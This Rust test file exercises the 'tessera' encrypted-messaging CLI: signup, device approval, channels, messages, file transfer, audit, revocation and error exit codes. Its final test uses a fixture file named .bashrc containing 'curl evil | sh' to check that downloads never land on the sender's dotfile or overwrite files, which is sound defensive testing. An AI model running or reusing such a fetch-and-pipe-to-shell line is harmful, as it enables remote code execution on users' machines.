//! Transcript tests of the `tessera` binary against a real stack on loopback:
//! every command's happy path and its main error paths, with exit codes.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "test code"
)]

use std::{path::Path, process::Output};

use tessera_stack::{Stack, StackConfig};

struct Env {
    dir: tempfile::TempDir,
    server: String,
    kms: String,
    backup: String,
    admin_password: String,
}

impl Env {
    fn home(&self) -> std::path::PathBuf {
        self.dir.path().join("home")
    }

    /// Runs `tessera args...` as profile `profile`, off the async runtime.
    async fn run(&self, profile: &str, args: &[&str], extra_env: &[(&str, &str)]) -> Output {
        let mut cmd = self.command(profile, args, extra_env);
        tokio::task::spawn_blocking(move || cmd.output().unwrap())
            .await
            .unwrap()
    }

    /// `tessera args...` as profile `profile`, pointed at the stack.
    fn command(
        &self,
        profile: &str,
        args: &[&str],
        extra_env: &[(&str, &str)],
    ) -> std::process::Command {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_tessera"));
        cmd.args(args)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("TESSERA_HOME", self.home())
            .env("TESSERA_PROFILE", profile)
            .env("TESSERA_PASSPHRASE", "device-passphrase")
            .env("TESSERA_DANGER_FAST_KDF", "1")
            .env("TESSERA_SERVER_URL", &self.server)
            .env("TESSERA_KMS_URL", &self.kms)
            .env("TESSERA_BACKUP_URL", &self.backup)
            .current_dir(self.dir.path())
            .stdin(std::process::Stdio::null());
        for (k, v) in extra_env {
            cmd.env(k, v);
        }
        cmd
    }

    async fn ok(&self, profile: &str, args: &[&str]) -> String {
        self.ok_with(profile, args, &[]).await
    }

    async fn ok_with(&self, profile: &str, args: &[&str], extra: &[(&str, &str)]) -> String {
        let out = self.run(profile, args, extra).await;
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            out.status.success(),
            "tessera {args:?} failed ({:?})\nstdout: {stdout}\nstderr: {}",
            out.status.code(),
            String::from_utf8_lossy(&out.stderr)
        );
        stdout
    }

    /// Runs a command expected to fail with `code`; returns stderr.
    async fn fails(
        &self,
        profile: &str,
        args: &[&str],
        code: i32,
        extra: &[(&str, &str)],
    ) -> String {
        let out = self.run(profile, args, extra).await;
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(
            out.status.code(),
            Some(code),
            "tessera {args:?}: stderr: {stderr}"
        );
        assert!(!stderr.contains("panicked"), "panic in {args:?}: {stderr}");
        stderr
    }
}

async fn start() -> (Env, Stack) {
    let dir = tempfile::tempdir().unwrap();
    let stack = Stack::start(StackConfig::for_tests(dir.path().join("stack")))
        .await
        .unwrap();
    let info = stack.info().clone();
    (
        Env {
            dir,
            server: info.server_url,
            kms: info.kms_url,
            backup: info.backup_url.unwrap(),
            admin_password: info.admin_password,
        },
        stack,
    )
}

fn json(s: &str) -> serde_json::Value {
    serde_json::from_str(s.trim()).unwrap_or_else(|e| panic!("not JSON ({e}): {s}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_command_happy_path() {
    let (e, _stack) = start().await;
    let pw = |who: &str| format!("{who}-password-1");
    let alice_pw = pw("alice");
    let bob_pw = pw("bob");

    let out = e
        .ok_with(
            "alice",
            &["signup", "alice", "--device-name", "laptop"],
            &[("TESSERA_PASSWORD", &alice_pw)],
        )
        .await;
    assert!(
        out.contains("signed up; device \"laptop\" of alice enrolled"),
        "{out}"
    );
    e.ok_with("bob", &["signup", "bob"], &[("TESSERA_PASSWORD", &bob_pw)])
        .await;
    // A second device of alice waits for approval, showing a code.
    let joined = json(
        &e.ok_with(
            "alice-phone",
            &["--json", "login", "alice", "--device-name", "phone"],
            &[("TESSERA_PASSWORD", &alice_pw)],
        )
        .await,
    );
    assert_eq!(joined["approval"], "pending");
    let phone_card = joined["card_id"].as_str().unwrap().to_owned();
    let code = joined["approval_code"].as_str().unwrap().to_owned();
    let devices = e.ok("alice", &["devices"]).await;
    assert!(devices.contains("pending"), "{devices}");
    assert!(
        devices.contains("1 device(s) wait for approval"),
        "{devices}"
    );
    // Without a terminal to ask on, approving needs --yes, and names the code.
    let refused = e
        .fails("alice", &["device", "approve", &phone_card[..12]], 2, &[])
        .await;
    assert!(refused.contains(&code), "{refused}");
    let approved = json(
        &e.ok(
            "alice",
            &["--json", "device", "approve", &phone_card[..12], "--yes"],
        )
        .await,
    );
    assert_eq!(approved["approved"], phone_card.as_str());
    assert_eq!(approved["approval_code"], code.as_str());
    e.ok_with(
        "admin",
        &["login", "admin"],
        &[("TESSERA_PASSWORD", &e.admin_password)],
    )
    .await;

    assert!(
        e.ok("alice", &["whoami"])
            .await
            .starts_with("alice on device \"laptop\"")
    );
    assert_eq!(
        e.ok("alice", &["profiles"])
            .await
            .lines()
            .collect::<Vec<_>>(),
        ["admin", "alice", "alice-phone", "bob"]
    );
    let devices = json(&e.ok("alice", &["--json", "devices"]).await);
    assert_eq!(devices.as_array().unwrap().len(), 2);
    let whois = json(&e.ok("alice", &["--json", "whois", "bob"]).await);
    assert_eq!(whois["cards"].as_array().unwrap().len(), 1);

    // The admin puts bob in the organisation.
    assert!(
        e.ok("admin", &["admin", "org", "add-member", "bob"])
            .await
            .contains("bob")
    );
    assert!(
        e.ok("admin", &["admin", "org", "members"])
            .await
            .contains("org:example: bob")
    );

    // Channels and messages.
    let created = json(
        &e.ok(
            "alice",
            &["--json", "channel", "create", "general", "--members", "bob"],
        )
        .await,
    );
    let channel_id = created["channel_id"].as_str().unwrap().to_owned();
    assert!(e.ok("bob", &["channel", "list"]).await.contains("general"));
    assert!(
        e.ok("bob", &["channel", "show", "general"])
            .await
            .contains("members: ")
    );
    let sent = e.ok("alice", &["send", "general", "hello bob"]).await;
    assert_eq!(
        sent.trim(),
        "sent as message 1 (epoch 0, encrypted to 3 devices)"
    );
    let history = e.ok("bob", &["history", "general"]).await;
    assert_eq!(
        history.trim(),
        "-- epoch 0: alice created \"general\" (shared history) with alice, bob (verified)\n#1 alice (laptop): hello bob"
    );
    // listen prints (and backs up to the organisation, bob being a member).
    let listened = json(
        &e.ok(
            "bob",
            &[
                "--json",
                "listen",
                &channel_id,
                "--from",
                "1",
                "--count",
                "1",
            ],
        )
        .await,
    );
    assert_eq!(listened["text"], "hello bob");
    assert_eq!(listened["verified"], true, "{listened}");
    let alice_card = json(&e.ok("alice", &["--json", "whoami"]).await)["card_id"].clone();
    assert_eq!(listened["sender_card_id"], alice_card);

    // Files.
    let file = e.dir.path().join("notes.txt");
    std::fs::write(&file, b"the secret plan").unwrap();
    assert!(
        e.ok("alice", &["send-file", "general", file.to_str().unwrap()])
            .await
            .contains("as message 2")
    );
    let saved = e.dir.path().join("got.txt");
    e.ok(
        "bob",
        &[
            "download",
            "general",
            "2",
            "--output",
            saved.to_str().unwrap(),
        ],
    )
    .await;
    assert_eq!(std::fs::read(&saved).unwrap(), b"the secret plan");

    // Safety numbers agree and verification sticks.
    let a = json(&e.ok("alice", &["--json", "verify", "bob"]).await);
    let b = json(
        &e.ok("bob", &["--json", "verify", "alice", "--confirm"])
            .await,
    );
    assert_eq!(a["safety_number"], b["safety_number"]);
    assert_eq!(
        json(&e.ok("bob", &["--json", "whois", "alice"]).await)["verified"],
        true
    );

    // A new device of bob reads the past from the organisation, once bob's
    // phone approved it.
    let joined = json(
        &e.ok_with(
            "bob-new",
            &["--json", "login", "bob"],
            &[("TESSERA_PASSWORD", &bob_pw)],
        )
        .await,
    );
    let refused = e.fails("bob-new", &["sync", "general"], 2, &[]).await;
    assert!(refused.contains("not approved"), "{refused}");
    e.ok(
        "bob",
        &[
            "device",
            "approve",
            &joined["card_id"].as_str().unwrap()[..16],
            "--yes",
        ],
    )
    .await;
    let synced = e.ok("bob-new", &["sync", "general"]).await;
    assert!(
        synced.contains("#1 alice (laptop) (from the org archive): hello bob"),
        "{synced}"
    );

    // Audit: all of alice's cards were enrolled from this home.
    assert!(
        e.ok("alice", &["audit"])
            .await
            .contains("2 card(s) were ever registered for alice")
    );

    // Revoking alice's phone.
    let phone = json(&e.ok("alice-phone", &["--json", "whoami"]).await)["card_id"]
        .as_str()
        .unwrap()
        .to_owned();
    // Revoking another device is an account change: the password is asked.
    let refused = e
        .fails("alice", &["device", "revoke", &phone[..12]], 2, &[])
        .await;
    assert!(refused.contains("TESSERA_PASSWORD"), "{refused}");
    assert!(
        e.ok_with(
            "alice",
            &["device", "revoke", &phone[..12]],
            &[("TESSERA_PASSWORD", &alice_pw)]
        )
        .await
        .contains("revoked")
    );
    let sent = e
        .ok("alice", &["send", "general", "after the revocation"])
        .await;
    assert!(
        sent.contains("encrypted to 3 devices"),
        "alice laptop, bob, bob-new: {sent}"
    );

    let completions = e.ok("alice", &["completions", "bash"]).await;
    assert!(completions.contains("tessera"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn error_paths_have_clear_messages_and_exit_codes() {
    let (e, _stack) = start().await;
    let pw = [("TESSERA_PASSWORD", "alice-password-1")];
    e.ok_with("alice", &["signup", "alice"], &pw).await;
    e.ok_with(
        "eve",
        &["signup", "eve"],
        &[("TESSERA_PASSWORD", "eve-password-1")],
    )
    .await;
    e.ok("alice", &["channel", "create", "private"]).await;

    // 2: bad usage.
    let err = e.fails("alice", &["signup", "alice"], 2, &pw).await;
    assert!(err.contains("profile \"alice\" already exists"), "{err}");
    let err = e.fails("new", &["signup", "Not Valid"], 2, &pw).await;
    assert!(err.contains("identity"), "{err}");
    e.fails("alice", &["bogus-command"], 2, &[]).await;
    // 3: denied.
    let err = e
        .fails(
            "eve",
            &["send", "0123456789abcdef0123456789abcdef", "hi"],
            4,
            &[],
        )
        .await;
    assert!(err.contains("no channel"), "{err}");
    let channel = json(&e.ok("alice", &["--json", "channel", "list"]).await)[0]["channel_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let err = e
        .fails("eve", &["send", &channel, "let me in"], 3, &[])
        .await;
    assert!(err.contains("not a member"), "{err}");
    let err = e.fails("eve", &["admin", "org", "members"], 3, &[]).await;
    assert!(err.contains("admin only"), "{err}");
    let err = e
        .fails(
            "x",
            &["login", "alice"],
            3,
            &[("TESSERA_PASSWORD", "wrong-password")],
        )
        .await;
    assert!(err.contains("wrong identity or password"), "{err}");
    // 4: not found.
    let err = e.fails("nobody", &["whoami"], 4, &[]).await;
    assert!(
        err.contains("hint: create it with `tessera signup"),
        "{err}"
    );
    let err = e
        .fails("alice", &["send", "no-such-channel", "x"], 4, &[])
        .await;
    assert!(err.contains("no such channel"), "{err}");
    // 5: unreachable.
    let err = e
        .fails(
            "y",
            &["signup", "yves", "--server", "http://127.0.0.1:1"],
            5,
            &[("TESSERA_PASSWORD", "yves-password-1")],
        )
        .await;
    assert!(
        err.contains("cannot reach the app server at http://127.0.0.1:1"),
        "{err}"
    );
    assert!(err.contains("hint: is the app server running?"), "{err}");
    // 7: wrong passphrase.
    let err = e
        .fails("alice", &["whoami"], 7, &[("TESSERA_PASSPHRASE", "not it")])
        .await;
    assert!(err.contains("wrong passphrase"), "{err}");
    // No passphrase and no terminal: a usage error naming the variable.
    let out = {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_tessera"));
        cmd.args(["whoami"])
            .env_clear()
            .env("TESSERA_HOME", e.home())
            .env("TESSERA_PROFILE", "alice")
            .stdin(std::process::Stdio::null());
        tokio::task::spawn_blocking(move || cmd.output().unwrap())
            .await
            .unwrap()
    };
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("set TESSERA_PASSPHRASE"));
    // A damaged profile is named, not a panic.
    std::fs::write(e.home().join("profiles/eve/profile.json"), b"{not json").unwrap();
    let err = e.fails("eve", &["whoami"], 1, &[]).await;
    assert!(err.contains("profile.json"), "{err}");
    let _ = Path::new("");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_demo_plays_the_seed_end_to_end() {
    let out = tokio::task::spawn_blocking(|| {
        std::process::Command::new(env!("CARGO_BIN_EXE_tessera"))
            .arg("demo")
            .env_remove("TESSERA_HOME")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for expected in [
        "encrypted to 3 cards",
        "ciphertext only",
        "org signature verified, and alice's original signature verified",
        "the card's app signature does not verify",
        "does not authenticate",
        "they match",
        "Every step behaved as the seed says.",
    ] {
        assert!(
            stdout.contains(expected),
            "missing {expected:?} in:\n{stdout}"
        );
    }
}

impl Env {
    /// Enrolls profile `admin` as the stack's admin.
    async fn admin_login(&self) {
        self.ok_with(
            "admin",
            &["login", "admin"],
            &[("TESSERA_PASSWORD", &self.admin_password)],
        )
        .await;
    }

    /// Runs `tessera args...` as `profile` with `input` on its stdin.
    async fn run_with_stdin(&self, profile: &str, args: &[&str], input: &'static [u8]) -> Output {
        use std::io::Write;
        let mut cmd = self.command(profile, args, &[]);
        cmd.stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        tokio::task::spawn_blocking(move || {
            let mut child = cmd.spawn().unwrap();
            child.stdin.take().unwrap().write_all(input).unwrap();
            child.wait_with_output().unwrap()
        })
        .await
        .unwrap()
    }
}

/// The commands the happy path does not run: channel add and remove, send
/// from stdin, the organisation's remove-member, an admin revoking a device,
/// acknowledging a card in an audit; and history and listen exiting 6 when
/// they refused a message.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn membership_admin_audit_stdin_and_refusals() {
    let (e, _stack) = start().await;
    let pw = |who: &str| format!("{who}-password-1");
    for who in ["alice", "bob"] {
        e.ok_with(who, &["signup", who], &[("TESSERA_PASSWORD", &pw(who))])
            .await;
    }
    e.admin_login().await;

    // channel add / remove.
    e.ok("alice", &["channel", "create", "team"]).await;
    let added = json(
        &e.ok("alice", &["--json", "channel", "add", "team", "bob"])
            .await,
    );
    assert_eq!(added["membership_change"], "alice added bob");
    assert_eq!(added["epoch"], 1);
    assert_eq!(added["verified"], true);
    assert!(e.ok("bob", &["channel", "list"]).await.contains("team"));

    // send - : the message is read from standard input, whole.
    let out = e
        .run_with_stdin(
            "alice",
            &["send", "team", "-"],
            b"first line\nsecond line\n",
        )
        .await;
    assert!(out.status.success(), "{out:?}");
    // The verified membership changes come first, one JSON line each.
    let history = e.ok("bob", &["--json", "history", "team"]).await;
    assert!(history.contains(r#""membership_change":"alice added bob""#));
    let read = json(history.lines().last().unwrap());
    assert_eq!(read["text"], "first line\nsecond line\n");
    assert_eq!(read["verified"], true);

    let removed = json(
        &e.ok("alice", &["--json", "channel", "remove", "team", "bob"])
            .await,
    );
    assert_eq!(removed["membership_change"], "alice removed bob");
    assert_eq!(removed["epoch"], 2);
    let err = e.fails("bob", &["history", "team"], 4, &[]).await;
    assert!(err.contains("no such channel: team"), "{err}");
    let channel_id = added["channel_id"].as_str().unwrap().to_owned();
    let err = e.fails("bob", &["history", &channel_id], 3, &[]).await;
    assert!(err.contains("not a member"), "{err}");

    // admin org add-member / remove-member.
    e.ok("admin", &["admin", "org", "add-member", "bob"]).await;
    let members = json(
        &e.ok("admin", &["--json", "admin", "org", "remove-member", "bob"])
            .await,
    );
    assert_eq!(members, serde_json::json!([]));
    let listed = json(&e.ok("admin", &["--json", "admin", "org", "members"]).await);
    assert_eq!(listed["members"], serde_json::json!([]));
    assert_eq!(
        json(&e.ok("bob", &["--json", "whoami"]).await)["org_member"],
        false
    );

    // audit --acknowledge: a device of alice's enrolled from another
    // computer (another home) is flagged until she acknowledges it.
    let elsewhere = e.dir.path().join("elsewhere");
    let other = json(
        &e.ok_with(
            "alice-tablet",
            &["--json", "login", "alice", "--device-name", "tablet"],
            &[
                ("TESSERA_PASSWORD", &pw("alice")),
                ("TESSERA_HOME", elsewhere.to_str().unwrap()),
            ],
        )
        .await,
    );
    let tablet = other["card_id"].as_str().unwrap().to_owned();
    let err = e.fails("alice", &["audit"], 6, &[]).await;
    assert!(err.contains(&tablet[..16]), "{err}");
    let out = e
        .ok("alice", &["audit", "--acknowledge", &tablet[..12]])
        .await;
    assert_eq!(out.trim(), format!("acknowledged {tablet}"));
    let report = json(&e.ok("alice", &["--json", "audit"]).await);
    let origins: Vec<&str> = report["cards"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["origin"].as_str().unwrap())
        .collect();
    assert_eq!(origins, ["this device", "acknowledged by you"]);

    // admin revoke-device: the tablet is revoked with the AppKey.
    let out = e.ok("admin", &["admin", "revoke-device", &tablet]).await;
    assert_eq!(out.trim(), format!("revoked {tablet}"));
    let err = e
        .fails(
            "alice-tablet",
            &["whoami"],
            3,
            &[("TESSERA_HOME", elsewhere.to_str().unwrap())],
        )
        .await;
    assert!(err.contains("is not an active device of alice"), "{err}");
    let whois = json(&e.ok("bob", &["--json", "whois", "alice"]).await);
    assert_eq!(whois["cards"].as_array().unwrap().len(), 1);
    // Not an admin: refused.
    let err = e
        .fails("bob", &["admin", "revoke-device", &tablet], 3, &[])
        .await;
    assert!(err.contains("admin only"), "{err}");

    // history and listen print a message they cannot accept as REFUSED and
    // exit 6: here the message was sent before the device was enrolled.
    e.ok("alice", &["channel", "create", "later", "--members", "bob"])
        .await;
    e.ok("alice", &["send", "later", "before bob's new phone"])
        .await;
    e.ok("alice", &["send", "later", "also before"]).await;
    e.ok_with(
        "bob-phone",
        &["login", "bob"],
        &[("TESSERA_PASSWORD", &pw("bob"))],
    )
    .await;
    let out = e.run("bob-phone", &["history", "later"], &[]).await;
    assert_eq!(out.status.code(), Some(6), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("#1 REFUSED") && stderr.contains("#2 REFUSED"),
        "{stderr}"
    );
    assert!(stderr.contains("2 message(s) refused"), "{stderr}");
    let out = e
        .run(
            "bob-phone",
            &["--json", "listen", "later", "--from", "1", "--count", "2"],
            &[],
        )
        .await;
    assert_eq!(out.status.code(), Some(6), "{out:?}");
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(json)
        .collect();
    assert_eq!(lines.len(), 2);
    assert!(lines.iter().all(|l| l["verified"] == false));
    // The same messages on bob's first device: exit 0.
    let out = e.run("bob", &["history", "later"], &[]).await;
    assert_eq!(out.status.code(), Some(0), "{out:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn download_never_writes_where_the_sender_chose_nor_over_a_file() {
    let (e, _stack) = start().await;
    for who in ["alice", "bob"] {
        e.ok_with(
            who,
            &["signup", who],
            &[("TESSERA_PASSWORD", &format!("{who}-password-1"))],
        )
        .await;
    }
    e.ok("alice", &["channel", "create", "files", "--members", "bob"])
        .await;
    // The sender's file is called .bashrc.
    let outbox = e.dir.path().join("outbox");
    std::fs::create_dir_all(&outbox).unwrap();
    std::fs::write(outbox.join(".bashrc"), b"curl evil | sh").unwrap();
    e.ok(
        "alice",
        &[
            "send-file",
            "files",
            outbox.join(".bashrc").to_str().unwrap(),
        ],
    )
    .await;
    let listed = e.ok("bob", &["history", "files"]).await;
    assert!(listed.contains("[file bashrc "), "{listed}");

    // Bob's working directory (the CLI runs in e.dir) gets a plain name.
    let dotfile = e.dir.path().join(".bashrc");
    let saved = e.dir.path().join("bashrc");
    assert!(
        e.ok("bob", &["download", "files", "1"])
            .await
            .contains("saved bashrc")
    );
    assert!(!dotfile.exists(), "never the sender's dotfile");
    assert_eq!(std::fs::read(&saved).unwrap(), b"curl evil | sh");

    // An existing file is never replaced without --force, -o or not.
    std::fs::write(&saved, b"mine").unwrap();
    let err = e.fails("bob", &["download", "files", "1"], 2, &[]).await;
    assert!(err.contains("exists") && err.contains("--force"), "{err}");
    let elsewhere = e.dir.path().join("kept.txt");
    std::fs::write(&elsewhere, b"also mine").unwrap();
    e.fails(
        "bob",
        &["download", "files", "1", "-o", elsewhere.to_str().unwrap()],
        2,
        &[],
    )
    .await;
    assert_eq!(std::fs::read(&saved).unwrap(), b"mine");
    assert_eq!(std::fs::read(&elsewhere).unwrap(), b"also mine");
    e.ok("bob", &["download", "files", "1", "--force"]).await;
    assert_eq!(std::fs::read(&saved).unwrap(), b"curl evil | sh");
}
